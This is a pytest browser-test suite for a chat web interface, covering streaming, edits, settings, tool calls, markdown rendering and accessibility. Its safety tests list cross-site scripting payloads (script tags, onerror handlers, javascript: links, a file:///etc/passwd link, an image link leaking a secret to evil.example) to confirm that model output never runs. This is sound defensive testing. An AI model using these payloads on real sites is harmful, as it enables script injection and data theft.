"""The chat page in a real browser; skipped where no Chromium is installed."""

from __future__ import annotations

import json
import os
import re
from collections.abc import Iterator

import pytest
from browser import Page, browser, chromium
from http_tools import eventually, real_server
from page_case import BUSY, IDLE, Played, ScriptedClient, answered, ask, opened

PROGRAM = chromium()
if PROGRAM is None and os.environ.get("MICROVLLM_BROWSER_TESTS") == "required":
    raise RuntimeError("no Chromium is installed: apt-get install chromium, or CHROMIUM=its path")
pytestmark = pytest.mark.skipif(PROGRAM is None, reason="no Chromium is installed (apt-get install chromium)")


@pytest.fixture(scope="module")
def tab() -> Iterator[Page]:
    """One tab for all tests: each has an origin of its own, since each has a server of its own."""
    with browser(PROGRAM or "") as running:
        yield running.new_page()


class TestChat:
    def test_an_answer_is_streamed(self, tab: Page) -> None:
        text = "Canberra is **the** capital."
        client = ScriptedClient(text)
        client.stall_after = 11
        with opened(tab, client) as page:
            assert page.text("#who") == "fake-model" and page.text("#greeting")
            ask(page, "What is the capital?")
            page.wait("document.querySelector('.assistant .body')?.innerText === 'Canberra is'")
            assert page.evaluate(BUSY) and page.count("#turns > li") == 2
            assert client.prompts == ["user: What is the capital?\nassistant: "]
            page.wait("document.querySelector('.stats').innerText.startsWith('11 tokens')")
            page.press("Escape")
            page.wait(IDLE)
            assert page.text(".assistant .note") == "Stopped."
            eventually(lambda: client.aborted == 1)
            client.stall_after, client.delay = None, 0.002
            page.click(".assistant button", "Try again")
            assert answered(page) == "Canberra is the capital."
            assert page.text(".assistant .body strong") == "the"
            assert f"{len(text) + 1} tokens · " in page.text(".stats") and "first token 0." in page.text(
                ".stats"
            )
            assert "tokens/s" in page.text(".stats") and "of 8,192 tokens of context" in page.text("#context")

    def test_code_is_as_large_in_a_block_as_in_a_line(self, tab: Page) -> None:
        with opened(tab, ScriptedClient("`a`\n\n```\nb\n```")) as page:
            ask(page, "code")
            answered(page)
            every = "[...document.querySelectorAll('.body code')]"
            sizes = page.evaluate(f"{every}.map(code => parseFloat(getComputedStyle(code).fontSize))")
            assert len(sizes) == 2 and max(sizes) - min(sizes) < 1

    def test_edit_and_retry_any_message_and_undo(self, tab: Page) -> None:
        client = ScriptedClient("one", "two", "three", "four", "five")
        with opened(tab, client) as page:
            for number, text in enumerate(("first", "second", "third"), 1):
                ask(page, text)
                answered(page, number)
            page.evaluate("document.querySelectorAll('.user')[1].querySelectorAll('button')[0].click()")
            page.evaluate("document.activeElement.select()")
            page.type("changed")
            page.press("Enter")
            assert answered(page, 2) == "four"
            assert client.prompts[-1] == "user: first\nassistant: one\nuser: changed\nassistant: "
            assert page.evaluate("document.activeElement.id") == "prompt"
            page.evaluate("document.querySelectorAll('.user')[0].querySelectorAll('button')[1].click()")
            assert answered(page, 1) == "five"
            assert client.prompts[-1] == "user: first\nassistant: "
            assert page.text("#undo") == "Removed 3 messages. Undo"
            page.click("#undo button")
            assert answered(page, 2) == "four" and page.count("#turns > li") == 4
            page.click("#new")
            assert page.count("#turns > li") == 0 and page.text("#greeting")

    def test_an_edit_that_is_given_up_and_one_beside_a_stream(self, tab: Page) -> None:
        client = ScriptedClient("one", "two more")
        with opened(tab, client) as page:
            ask(page, "first")
            answered(page)
            page.click(".user button", "Edit")
            page.press("Escape")
            assert page.text(".user .body") == "first"
            assert page.evaluate("document.activeElement.innerText") == "Edit"
            client.stall_after = 3
            ask(page, "second")
            page.wait("[...document.querySelectorAll('.assistant .body')].at(-1).innerText === 'two'")
            page.evaluate("document.querySelector('.user button').click()")
            page.type("never lost")
            page.evaluate("document.getElementById('send').click()")
            page.wait(IDLE)
            assert page.evaluate("document.querySelector('.user textarea').value").endswith("never lost")

    def test_a_reload_in_the_middle_of_an_answer(self, tab: Page) -> None:
        client = ScriptedClient("begun and ended", "ended")
        client.stall_after = 8
        with opened(tab, client) as page:
            ask(page, "Hello")
            page.wait("document.querySelector('.assistant .body')?.innerText === 'begun an'")
            page.call("Page.reload")
            page.wait(
                "performance.getEntriesByType('navigation')[0].type === 'reload' && "
                "document.querySelector('.note')?.hidden === false"
            )
            eventually(lambda: client.aborted == 1)
            client.stall_after = None
            page.click(".assistant button", "Continue")
            assert answered(page) == "begun anended"

    def test_settings_are_sent_and_a_reload_keeps_everything(self, tab: Page) -> None:
        client = ScriptedClient("x" * 80)
        with opened(tab, client) as page:
            page.click("#open-settings")
            values = {
                "system": "Be brief.",
                "temperature": "0.5",
                "top_p": "0.9",
                "max_tokens": "2",
                "seed": "7",
            }
            for name, value in values.items():
                page.evaluate(f"document.getElementById('{name}').focus()")
                page.type(value)
            page.click("dialog button", "Done")
            ask(page, "Hello")
            assert answered(page) == "xx"
            params = client.submitted[-1][1]
            assert (params.temperature, params.top_p, params.max_tokens, params.seed) == (0.5, 0.9, 2, 7)
            assert client.prompts[-1].startswith("system: Be brief.\nuser: Hello")
            assert "Cut off" in page.text(".note")
            page.click(".assistant button", "Continue")
            assert answered(page) == "xxxx"
            assert client.prompts[-1].endswith("xx") and "4 tokens" in page.text(".stats")
            page.call("Page.reload")
            page.wait("document.querySelectorAll('#turns > li').length === 2")
            page.click("#open-settings")
            assert page.evaluate("document.getElementById('seed').value") == "7"
            page.evaluate("document.getElementById('top_p').select()")
            page.type("5")
            page.click("dialog button", "Done")
            assert page.evaluate("document.getElementById('settings').open")  # out of range
            page.press("Escape")
            assert not page.evaluate("document.getElementById('settings').open")
            assert page.evaluate("Object.keys(localStorage).length") == 0

    def test_below_the_prefix_of_a_proxy(self, tab: Page) -> None:
        with opened(tab, ScriptedClient("yes"), root_path="/some/where", prefix="/some/where") as page:
            ask(page, "Hello")
            assert answered(page) == "yes" and page.evaluate("!document.getElementById('docs').hidden")

    def test_what_is_switched_off_is_not_shown(self, tab: Page) -> None:
        client = ScriptedClient("yes")
        with opened(tab, client, disable_fastapi_docs=True, disable_log_stats=True) as page:
            page.wait("document.getElementById('version').textContent.length > 9")
            assert page.text("#load") == "ready" and page.evaluate("document.getElementById('docs').hidden")


TOOLS = [{"type": "function", "function": {"name": name}} for name in ("weather", "clock")]
CALLS = (
    "<think>Let me think.</think>Looking it up."
    '<tool_call>\n{"name": "weather", "arguments": {"city": "Rome"}}\n</tool_call>'
    '<tool_call>\n{"name": "clock", "arguments": {}}\n</tool_call>'
)


class TestReasoningAndTools:
    def test_a_tool_is_called_and_answered(self, tab: Page) -> None:
        client = ScriptedClient(CALLS, "<think>Aha.</think>It is sunny.")
        with opened(tab, client, tool_call_parser="hermes", reasoning_parser="qwen3") as page:
            page.click("#open-settings")
            page.evaluate("document.getElementById('tools').focus()")
            page.type("[{")
            page.click("dialog button", "Done")
            assert page.evaluate("document.getElementById('settings').open")  # no JSON
            page.evaluate("document.getElementById('tools').select()")
            page.type(json.dumps(TOOLS))
            page.click("dialog button", "Done")
            ask(page, "Weather?")
            assert answered(page) == "Looking it up."
            assert page.evaluate("document.querySelector('.reasoning').open") is False
            assert page.text(".reasoning summary").startswith("Reasoning, ")
            assert page.evaluate("document.querySelector('.reasoning > div').textContent") == "Let me think."
            assert page.evaluate("[...document.querySelectorAll('.call')].map((e) => e.innerText)") == [
                'Tool call: weather\n{"city": "Rome"}',
                "Tool call: clock\n{}",
            ]
            for at, text in enumerate(("sunny", "noon")):
                page.evaluate(f"document.querySelectorAll('.results textarea')[{at}].focus()")
                page.type(text)
            page.click(".results button")
            assert answered(page, 2) == "It is sunny."
            assert page.text(".tool .body") == "noon" and page.count(".results textarea") == 0
            assert client.prompts[1].startswith(
                "user: Weather?\nassistant: Looking it up.\ntool: sunny\ntool: noon\n"
            )
            # With the results taken back they are asked for again.
            page.click(".user button", "Retry")
            assert answered(page) == "Looking it up." and page.count(".results textarea") == 2


MARK = "window.ran = (window.ran || 0) + 1"
HOSTILE = (
    f"<script>{MARK}</script>",
    f"<img src=x onerror='{MARK}'>",
    f"<svg onload='{MARK}'><script>{MARK}</script></svg>",
    f"<iframe srcdoc='<script>parent.{MARK}</script>'></iframe>",
    f"<a href='javascript:{MARK}' onclick='{MARK}'>click</a> <b style='color:red'>bold</b>",
    f"[click](javascript:{MARK.replace(' ', '')}) [two](JaVaScRiPt:{MARK.replace(' ', '')})",
    "[data](data:text/html,<script>1</script>) ![image](data:image/svg+xml,<svg/onload=1>)",
    "[tab](java\tscript:1) [vb](vbscript:1) [file](file:///etc/passwd) <javascript:1>",
    '![leak](https://evil.example/?secret=1) [x](https://evil.example/"onclick="1)',
    f"| <img src=x onerror='{MARK}'> | b |\n|---|---|\n| <script>{MARK}</script> | `<i>` |",
    f"```<img/src=x/onerror={MARK.replace(' ', '')}>\n</code></pre><script>{MARK}</script>\n```",
    f"> <script>{MARK}</script>\n\n- <img src=x onerror='{MARK}'>\n\n# <script>{MARK}</script>",
    '<a id="turns">x</a><form name="send"></form><base href="https://evil.example/">',
)
FORBIDDEN = "script, img, svg, iframe, object, embed, form, base, style, link, meta, video, audio, math, b, i"


class TestSafety:
    def test_what_a_model_writes_never_runs(self, tab: Page) -> None:
        hostile = "\n\n".join(HOSTILE)
        deltas = (
            {"reasoning": hostile},
            *({"content": hostile[at : at + 7]} for at in range(0, len(hostile), 7)),
            {"tool_calls": [{"index": 0, "id": "1", "function": {"name": HOSTILE[1], "arguments": hostile}}]},
        )
        name = "<img src=x onerror='window.ran=1'>"
        client = ScriptedClient("-")
        with opened(tab, client, wrap=lambda app: Played(app, deltas), served_model_names=(name,)) as page:
            ask(page, hostile.replace("\n", " "))
            answered(page)
            for tag in ("details", "summary", "a"):
                page.evaluate(f"document.querySelectorAll('#turns {tag}').forEach((e) => e.click())")
            assert (
                page.evaluate(f"document.querySelector('#turns').querySelectorAll('{FORBIDDEN}').length") == 0
            )
            links = page.evaluate(
                "[...document.querySelectorAll('#turns a')].map((a) => a.getAttribute('href'))"
            )
            assert links and all(link.startswith("https://evil.example/") for link in links)
            names = page.evaluate(
                "[...document.querySelectorAll('#turns *')].flatMap((node) => node.getAttributeNames())"
            )
            own = (
                "class href title target rel tabindex type hidden open rows placeholder aria-label aria-busy"
            )
            assert set(names) <= set(own.split())
            shown = page.evaluate("document.querySelector('.assistant .body').textContent")
            for source in HOSTILE[:5]:
                assert source in shown
            assert page.evaluate("document.querySelector('.call pre').textContent") == hostile
            assert page.evaluate("document.querySelector('.reasoning > div').textContent") == hostile
            assert page.text("#model option").endswith(name.rpartition("/")[2])
            assert page.evaluate("window.ran") is None

    def test_an_error_is_text_too(self, tab: Page) -> None:
        client = ScriptedClient("-")
        client.fail_after, client.failure = 0, type(client.failure)(HOSTILE[1])
        with opened(tab, client) as page:
            ask(page, "Hello")
            answered(page)
            assert page.text(".note.failed") == HOSTILE[1] and page.evaluate("window.ran") is None

    def test_the_browser_would_refuse_it_as_well(self, tab: Page) -> None:
        """The policy is the second line: if the page made markup of a text, nothing would run."""
        with real_server(ScriptedClient("-")) as port:
            page = tab
            page.open(f"http://127.0.0.1:{port}/")
            for code in (
                "document.body.innerHTML = '<b>x</b>'",
                f"document.body.setAttribute('onclick', {json.dumps(MARK)})",
                f"document.createElement('script').text = {json.dumps(MARK)}",
            ):
                assert (
                    page.evaluate(f"(() => {{ try {{ {code} }} catch (e) {{ return e.name }} }})()")
                    == "TypeError"
                )
            page.evaluate("document.body.style.color = ''; fetch('https://evil.example/').catch(() => 0)")
            assert page.evaluate("window.ran") is None
            assert [problem for problem in page.problems if "connect-src 'self'" in problem]


# A source, and the markup that it is shown as; every part of a source is wrapped in a <div>.
MARKDOWN = (
    ("plain *em* **strong** ***both*** ~~gone~~ `a*b`",
     "<p>plain <em>em</em> <strong>strong</strong> <strong><em>both</em></strong> <del>gone</del> "
     "<code>a*b</code></p>"),
    ("**bold *it*** *a **b***", "<p><strong>bold <em>it</em></strong> <em>a <strong>b</strong></em></p>"),
    ("2 * 3 * 4, snake_case_name, __b__, 5*, **open",
     "<p>2 * 3 * 4, snake_case_name, <strong>b</strong>, 5*, **open</p>"),
    (r"\*not\* `` a ` b `` `open", "<p>*not* <code>a ` b</code> `open</p>"),
    ("one\ntwo<br>three", "<p>one<br>two<br>three</p>"),
    ("# A\n### B\n####### C", "<h3>A</h3><h5>B</h5><p>####### C</p>"),
    ("a\n\n---\n\nb", "<p>a</p>|<hr>|<p>b</p>"),
    ("> q\n> - i\n\nz", "<blockquote><p>q</p><ul><li><p>i</p></li></ul></blockquote>|<p>z</p>"),
    ("- a\n- b\n  - c\n\n  more\n- d",
     "<ul><li><p>a</p></li><li><p>b</p><ul><li><p>c</p></li></ul><p>more</p></li><li><p>d</p></li></ul>"),
    ("3. a\n4. b\n\n- c",
     '<ol start="3"><li><p>a</p></li><li><p>b</p></li></ol><ul><li><p>c</p></li></ul>'),
    ("1. Do:\n   ```sh\n   ls\n\n   cd\n   ```\n2. Done",
     "<ol><li><p>Do:</p>CODE[sh]ls\n\ncd</li><li><p>Done</p></li></ol>"),
    ("text\n```python\nif a:\n\n    b()\n```\nafter",
     "<p>text</p>|CODE[python]if a:\n\n    b()|<p>after</p>"),
    ("~~~\n```\n~~~\n````\n```\n````", "CODE[]```|CODE[]```"),
    ("```\nstill open *a*\n\n# b", "CODE[]still open *a*\n\n# b"),
    ("| a | b |\n|:--|--:|\n| 1 | `x\\|y` |\nend",
     '<TABLE><thead><tr><th class="left">a</th><th class="right">b</th></tr></thead><tbody><tr>'
     '<td class="left">1</td><td class="right"><code>x|y</code></td></tr></tbody></TABLE><p>end</p>'),
    ("a | b\nno table", "<p>a | b<br>no table</p>"),
    ("[a **b**](https://x.org/p_(q)) <https://x.org>. (https://x.org/a).",
     "<p>LINK[https://x.org/p_(q)]a <strong>b</strong></a> &lt;LINK[https://x.org]https://x.org</a>&gt;. "
     "(LINK[https://x.org/a]https://x.org/a</a>).</p>"),
    ("![alt](https://x.org/i.png) [no](/here) [no](//x.org) [m](mailto:a@x.org)",
     "<p>LINK[https://x.org/i.png]image: alt</a> [no](/here) [no](//x.org) LINK[mailto:a@x.org]m</a></p>"),
    ("&lt;b&gt; <b>x</b> &amp;", "<p>&amp;lt;b&amp;gt; &lt;b&gt;x&lt;/b&gt; &amp;amp;</p>"),
    ("", ""),
    ("   \n\n  ", ""),
)  # fmt: skip
SHORT = (
    ('<div class="code"><div class="bar"><span>', "CODE["),
    ('</span><button type="button" title="Copy code">Copy</button></div><pre tabindex="0"><code>', "]"),
    ("</code></pre></div>", ""),
    ('<div class="wide" tabindex="0"><table>', "<TABLE>"),
    ("</table></div>", "</TABLE>"),
)
# Each takes a time that grows with the square of its length if something tries all of its beginnings.
ATTACKS = ("[", "![", "[a](", "*a ", "**", "_a_", "`", "`a``b", "> ", "- ", "  - ", "|", "\\|", "#", "~~~`",
           "``` `", "https://", "https://)", "\n", "\n\n", "1. a\n", " ", "- - ", "<br>", "| a\n|-\n", "\\",
           ")", "***a**", "\\``x")  # fmt: skip


class TestMarkdown:
    def test_each_construct(self, tab: Page) -> None:
        with opened(tab, ScriptedClient("-")) as page:
            load_markdown(page)
            for source, expected in MARKDOWN:
                assert show(page, source) == expected, source

    def test_a_stream_ends_as_the_whole_does(self, tab: Page) -> None:
        """Parts that are kept between two frames must be those that a new drawing would make."""
        with opened(tab, ScriptedClient("-")) as page:
            load_markdown(page)
            source = "\n\n".join(source for source, _ in MARKDOWN)
            assert (
                page.evaluate(
                    f"""(() => {{
                    const source = {json.dumps(source)}, node = document.createElement("div");
                    for (let end = 0; end <= source.length; end++) {{
                        markdown.render(node, source.slice(0, end));
                        const whole = document.createElement("div");
                        markdown.render(whole, source.slice(0, end));
                        if (node.innerHTML !== whole.innerHTML) return source.slice(0, end);
                    }}
                    return "";
                }})()"""
                )
                == ""
            )

    def test_the_time_is_linear(self, tab: Page) -> None:
        with opened(tab, ScriptedClient("-")) as page:
            load_markdown(page)
            # A text eight times as long takes eight times as long; one of squares 64 times, in every turn.
            slow = page.evaluate(
                f"""{json.dumps(ATTACKS)}.filter((piece) => {{
                    const time = (size) => {{
                        const node = document.createElement("div"), start = performance.now();
                        markdown.render(node, piece.repeat(size / piece.length) + "x");
                        return performance.now() - start;
                    }};
                    let small = Infinity, large = Infinity;
                    for (let turn = 0; turn < 10; turn++) {{
                        small = Math.min(small, time(15000)), large = Math.min(large, time(120000));
                        if (large < 24 * Math.max(small, 4)) return false;
                    }}
                    return true;
                }})"""
            )
            assert slow == []


def load_markdown(page: Page) -> None:
    page.evaluate("import('./page/markdown.js').then((module) => { window.markdown = module; return 0; })")


def show(page: Page, source: str) -> str:
    """The markup of a source, with `|` between its parts and short forms of what is long."""
    parts = page.evaluate(
        f"""(() => {{ const node = document.createElement("div"); markdown.render(node, {json.dumps(source)});
        return [...node.children].map((part) => part.innerHTML); }})()"""
    )
    text = "|".join(parts)
    for long, short in SHORT:
        text = text.replace(long, short)
    return re.sub(
        r'<a href="([^"]*)" title="\1" target="_blank" rel="noopener noreferrer nofollow">', r"LINK[\1]", text
    )


class TestTrouble:
    def test_a_key_is_asked_for_and_kept_in_the_tab(self, tab: Page) -> None:
        with opened(tab, ScriptedClient("yes"), api_keys=("secret",)) as page:
            page.wait("document.getElementById('settings').open")
            assert page.evaluate("document.activeElement.id") == "key"
            page.type("wrong")
            page.press("Enter")
            page.wait("document.getElementById('settings').open")
            page.evaluate("document.getElementById('key').select()")
            page.type("secret")
            page.press("Enter")
            page.wait("document.getElementById('model').value === 'fake-model'")
            ask(page, "Hello")
            assert answered(page) == "yes"
            assert page.evaluate("sessionStorage.getItem('microvllm.key')") == '"secret"'
            assert page.evaluate("Object.values(localStorage) + document.cookie") == ""

    def test_a_full_queue_is_tried_again(self, tab: Page) -> None:
        client = ScriptedClient("at last")
        client.busy = True
        with opened(tab, client) as page:
            ask(page, "Hello")
            page.wait("document.querySelector('.note')?.innerText.includes('Trying again in')")
            assert "busy" in page.text(".note")
            client.busy = False
            assert answered(page) == "at last" and page.evaluate("document.querySelector('.note').hidden")

    def test_a_field_that_is_refused_is_named(self, tab: Page) -> None:
        with opened(tab, ScriptedClient("-")) as page:
            page.click("#open-settings")
            page.evaluate("document.getElementById('temperature').focus()")
            page.type("900")
            page.click("dialog button", "Done")
            ask(page, "Hello")
            answered(page)
            assert "temperature" in page.text(".note.failed")

    def test_a_full_context_is_said_clearly(self, tab: Page) -> None:
        client = ScriptedClient("x" * 4000, max_model_len=100)
        with opened(tab, client) as page:
            ask(page, "Hello")
            answered(page)
            assert "The context of 100 tokens is full" in page.text(".note")
            assert page.evaluate("document.getElementById('context').className") == "warn"
            ask(page, "More, please, although there is no room for any more of it in a context of this size")
            answered(page, 2)
            assert "does not fit into the context" in page.text(".note.failed")

    def test_an_engine_that_dies_and_comes_back(self, tab: Page) -> None:
        client = ScriptedClient("back again")
        with opened(tab, client) as page:
            client.fail_after = 4
            ask(page, "Hello")
            answered(page)
            assert page.text(".note.failed") == "The engine failed." and page.text(".body") == "back"
            client.alive = False
            page.evaluate("document.dispatchEvent(new Event('visibilitychange'))")
            page.wait("document.getElementById('load').textContent.startsWith('starting again')")
            client.alive, client.fail_after = True, None
            page.click(".assistant button", "Try again")
            assert answered(page) == "back again"

    def test_a_server_that_is_gone(self, tab: Page) -> None:
        client = ScriptedClient("never finished")
        client.stall_after = 8
        with real_server(client) as port:
            page = tab
            page.open(f"http://127.0.0.1:{port}/")
            ask(page, "Hello")
            page.wait("document.querySelectorAll('.body')[1]?.innerText")
        answered(page)
        assert "connection was lost" in page.text(".note.failed") and page.text(".body") == "never fi"
        ask(page, "Are you there?")
        answered(page, 2)
        assert "cannot be reached" in page.text(".note.failed")


# The relative luminance of the page, and the least contrast of a text with what is behind it (WCAG 2.1).
COLOURS = """(() => {
  const style = (name) => getComputedStyle(document.querySelector(name));
  const luminance = (colour) => {
    const [r, g, b] = colour.match(/[\\d.]+/g).map((value) => value / 255)
      .map((value) => value <= 0.03928 ? value / 12.92 : ((value + 0.055) / 1.055) ** 2.4);
    return 0.2126 * r + 0.7152 * g + 0.0722 * b;
  };
  const contrast = (one, other) => {
    const [less, more] = [luminance(one), luminance(other)].sort((a, b) => a - b);
    return (more + 0.05) / (less + 0.05);
  };
  const page = style("html").backgroundColor, send = style("#send");
  const texts = ["body", "#load", "#hint", ".stats", ".user button"].map((name) => style(name).color);
  const contrasts = texts.map((colour) => contrast(colour, page));
  return [luminance(page), Math.min(...contrasts, contrast(send.color, send.backgroundColor))];
})()"""


class TestForEverybody:
    def test_the_keyboard_is_enough(self, tab: Page) -> None:
        client = ScriptedClient("`code`\n\n```\nblock\n```")
        with opened(tab, client) as page:
            assert page.evaluate("document.activeElement.id") == "prompt"
            page.type("one")
            page.press("Enter", shift=True)
            page.type("two")
            page.press("Enter")
            answered(page)
            assert client.prompts == ["user: one\ntwo\nassistant: "]
            seen = []
            page.evaluate("document.getElementById('new').focus()")
            for _ in range(9):
                seen.append(page.evaluate("document.activeElement.id || document.activeElement.innerText"))
                style = page.evaluate(
                    "(() => { const s = getComputedStyle(document.activeElement);"
                    " return s.outlineStyle + s.outlineWidth + s.boxShadow })()"
                )
                assert style.startswith("solid2px") or "1px" in style, seen
                page.press("Tab")
            assert seen == [
                "new",
                "open-settings",
                "theme",
                "Edit",
                "Retry",
                "Copy",
                "block",
                "Copy",
                "prompt",
            ]

    def test_a_screen_reader_hears_an_answer_and_not_each_token(self, tab: Page) -> None:
        with opened(tab, ScriptedClient("word " * 200)) as page:
            page.evaluate(
                """window.heard = [];
                new MutationObserver(() => window.heard.push(document.getElementById("live").textContent))
                    .observe(document.getElementById("live"), { childList: true, subtree: true });"""
            )
            ask(page, "Hello")
            answered(page)
            heard = page.evaluate("window.heard")
            assert heard[0] == "Answering" and heard[-1].startswith("Answer: word word") and len(heard) == 2
            assert page.evaluate("document.querySelectorAll('[aria-live], [role=log]').length") == 0
            tree = page.call("Accessibility.getFullAXTree")["nodes"]
            names = {(n["role"]["value"], n.get("name", {}).get("value")) for n in tree if not n["ignored"]}
            wanted = {
                ("textbox", "Message"),
                ("button", "Send"),
                ("list", "Conversation"),
                ("heading", "Answer"),
            }
            assert wanted | {("button", "Settings"), ("main", "")} <= names

    @pytest.mark.parametrize("dark", [False, True])
    def test_a_phone(self, tab: Page, dark: bool) -> None:
        table = f"| {'a | ' * 20}\n|{'---|' * 20}\n| {'b | ' * 20}"
        long = f"{'W' * 300}\n\n```\n{'x' * 300}\n```\n\n{table}\n\n`{'y' * 200}`"
        name = "a-model-with-quite-a-long-name/of-two-parts-that-goes-on-and-on"
        with opened(tab, ScriptedClient(long), width=360, dark=dark, served_model_names=(name,)) as page:
            page.media(scheme="dark" if dark else "light", reduced_motion=True)  # colours change at once
            page.click("#examples button")
            answered(page)
            page.evaluate("document.getElementById('open-settings').click()")
            for _ in range(2):
                for node in ("document.documentElement", "document.getElementById('chat')"):
                    assert page.evaluate(f"{node}.scrollWidth") <= 360
                page.press("Escape")
            luminance, contrast = page.evaluate(COLOURS)
            assert (luminance < 0.2) is dark and contrast >= 4.5
            page.click("#theme")
            luminance, contrast = page.evaluate(COLOURS)
            assert (luminance > 0.8) is dark and contrast >= 4.5

    def test_reduced_motion(self, tab: Page) -> None:
        client = ScriptedClient("-")
        client.stall_after = 0
        with opened(tab, client) as page:
            ask(page, "Hello")
            name = "getComputedStyle(document.querySelector('.waiting .body'), '::after').animationName"
            page.wait("document.querySelector('.waiting') !== null")
            assert page.evaluate(name) == "breathe"
            page.media(scheme="light", reduced_motion=True)
            assert page.evaluate(name) == "none"
            page.press("Escape")
            page.wait(IDLE)

    def test_a_long_conversation_is_not_drawn_again(self, tab: Page) -> None:
        client = ScriptedClient("# A\n\n- b\n- c\n\n```\nd\n```\n\nlast paragraph, which grows")
        with opened(tab, client) as page:
            turns = [
                {"role": "user", "content": "q"},
                {"role": "assistant", "content": "*a*", "calls": [], "done": True},
            ]
            stored = json.dumps(json.dumps(turns * 100))
            page.evaluate(
                f"addEventListener('pagehide', () => sessionStorage.setItem('microvllm.turns', {stored}))"
            )
            page.call("Page.reload")
            page.wait("document.querySelectorAll('#turns > li').length === 200")
            page.evaluate(
                """window.added = [];
                for (const body of document.querySelectorAll(".body"))
                    new MutationObserver((all) => window.added.push(...all))
                        .observe(body, { childList: true, subtree: true });"""
            )
            ask(page, "Hello")
            page.wait(f"document.querySelectorAll('.assistant').length === 101 && {IDLE}")
            assert page.evaluate("window.added.length") == 0
